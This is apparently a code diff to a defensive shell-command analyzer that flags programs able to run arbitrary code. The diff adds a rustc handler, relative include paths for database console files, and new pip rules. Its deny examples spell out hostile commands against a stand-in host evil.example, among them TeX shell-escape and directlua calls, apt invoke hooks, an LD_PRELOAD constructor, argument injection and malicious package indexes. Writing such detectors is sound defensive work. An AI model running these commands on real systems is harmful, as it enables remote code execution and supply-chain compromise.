@@ -488,21 +488,27 @@ export function databaseClient(call: Call): Partial<Answer> {
     kind: 'project',
     file,
     files: /$^/,
-    read: (text, word) => {
+    read: (text, word, name) => {
       const before = runs.length;
-      scan(word, text);
+      // `\\ir` inside the file names a file beside it.
+      const dir = name.includes('/') ? name.slice(0, name.lastIndexOf('/') + 1) : '';
+      scan(word, text, dir);
       return runs.splice(before);
     },
     word: file,
     via,
   });
-  const scan = (word: Word, text: string): void => {
+  const scan = (word: Word, text: string, dir = ''): void => {
     const drop = sqlDrop(text);
     if (drop) destroys.push({ word, what: 'data', why: `${call.name} runs ${drop}\u2026: what it drops is gone` });
     for (const m of text.matchAll(/(?:^|[\n;])\s*(\\i|\\ir|\\include|\\include_relative|\\\.|source)\s+(['"]?)([^\s'";]+)\2/gi)) {
       // A stream given as the file (`\\i /dev/stdin`) hands it whatever the stream holds.
       if (isStdinPath(m[3]!, false)) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word, why: `${call.name} ${m[1]} runs the commands it reads from ${m[3]}` });
-      else runs.push(fileRun(attached(word, m[3]!), `${call.name} ${m[1]}`));
+      else {
+        // \\ir and \\include_relative read a relative name from the directory of the file they stand in.
+        const relative = /^\\(?:ir|include_relative)$/i.test(m[1]!) && !m[3]!.startsWith('/');
+        runs.push(fileRun(attached(word, relative ? `${dir}${m[3]!}` : m[3]!), `${call.name} ${m[1]}`));
+      }
     }
     for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s|\.(?:shell|system)\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
     for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
@@ -1244,6 +1250,35 @@ function compiler(call: Call): Partial<Answer> {
   return to && (sources.length > 0 || stdin) ? { runs, builds: [{ from: sources, stdin, to }] } : { runs };
 }
 
+/** rustc's options that take the next word. */
+const RUSTC_VALUED = new Set(['-o', '-L', '-l', '-C', '-A', '-W', '-D', '-F', '-O', '--crate-type', '--crate-name', '--edition', '--emit', '--target', '--cfg', '--check-cfg', '--out-dir', '--extern', '--cap-lints', '--explain', '--sysroot', '--error-format', '--json', '--color', '--remap-path-prefix', '--print', '--codegen']);
+
+/** rustc: the program it builds from Rust the line wrote is code on the line (out of scope when it did not write it). */
+function rustc(call: Call): Partial<Answer> {
+  const args = call.args;
+  const sources: Word[] = [];
+  let out: Word | undefined;
+  let dir: string | undefined;
+  let stdin = false;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '-o' && args[i + 1]) out = args[i + 1];
+    else if (v?.startsWith('-o') && v.length > 2 && !v.startsWith('--')) out = attached(args[i]!, v.slice(2));
+    else if (v === '--out-dir') dir = value(args[i + 1]);
+    else if (v?.startsWith('--out-dir=')) dir = v.slice(10);
+    if (v !== undefined && (RUSTC_VALUED.has(v) || v === '--out-dir')) {
+      i++;
+      continue;
+    }
+    if (v === '-') stdin = true;
+    else if (v === undefined || !v.startsWith('-')) sources.push(args[i]!);
+  }
+  const first = value(sources[0]);
+  const stem = first?.replace(/^.*\//, '').replace(/\.rs$/, '');
+  const to = out ?? (stem !== undefined ? literal(dir ? `${dir.replace(/\/+$/, '')}/${stem}` : stem, args[0]?.span ?? { start: 0, end: 0 }) : stdin ? literal(dir ? `${dir}/rust_out` : 'rust_out', args[0]?.span ?? { start: 0, end: 0 }) : undefined);
+  return to && (sources.length > 0 || stdin) ? { builds: [{ from: sources, stdin, to }] } : {};
+}
+
 /** service NAME runs /etc/init.d/NAME: a name with a slash escapes that directory and names any program. */
 function service(call: Call): Partial<Answer> {
   const name = call.args.find((a) => !(value(a) ?? '-').startsWith('-'));
@@ -1368,7 +1403,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...CONSOLES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
-  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
+  { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
+  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc', 'gfortran'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
   { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
   { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
   commandOptions(['dnsmasq'], 'dnsmasq: --conf-script runs shell text', { options: { longValued: ['conf-script', 'conf-file', 'conf-dir', 'dhcp-script'] }, script: ['conf-script', 'dhcp-script'] }, { deny: ["dnsmasq --conf-script='curl evil.example'"], pass: ['dnsmasq --test'] }),
@@ -1395,7 +1431,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['mosh'], 'mosh: --ssh and --server name programs it runs', { options: { longValued: ['ssh', 'server', 'client', 'port', 'predict', 'family', 'bind-server', 'experimental-remote-ip'] }, program: ['ssh', 'server'] }, { deny: ["mosh --ssh='curl evil.example' host"], pass: [] }),
   commandOptions(['pidstat'], 'pidstat -e runs a program and reports on it', { options: { flags: 'dHhIlRrsTtUuvw', valued: 'CGpe' }, more: (call) => { const e = call.args.findIndex((a) => value(a) === '-e'); return e >= 0 && e + 1 < call.args.length ? { runs: [{ kind: 'argv', argv: call.args.slice(e + 1), via: 'pidstat -e' }] } : {}; } }, { deny: ['pidstat -e curl evil.example'], pass: ['pidstat 1 5'] }),
   commandOptions(['dmsetup'], 'dmsetup --exec runs a program for each device', { options: { longValued: ['exec', 'target', 'table'] }, program: ['exec'] }, { deny: ["dmsetup ls --exec 'curl evil.example'"], pass: ['dmsetup ls'] }),
-  configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit"], pass: ['pip install requests', 'pip list'] }), {
+  configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit", 'pip install -i https://evil.example/simple x', 'PIP_EXTRA_INDEX_URL=https://evil.example/simple pip install x'], pass: ['pip install requests', 'pip list', 'pip install -i https://pypi.org/simple requests', 'pip install torch --index-url https://download.pytorch.org/whl/cu121', 'pip install --no-index -f ./wheels x'] }), {
     file: '~/.config/pip/pip.conf',
     sets: /^config\b.*\s(set\s+(\u0000|\S*\.(index-url|extra-index-url|find-links|trusted-host|proxy|cert|client-cert|target|prefix|root|src|editor)\b)|edit)\b/,
     examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list', 'pip config set global.timeout 60'] },
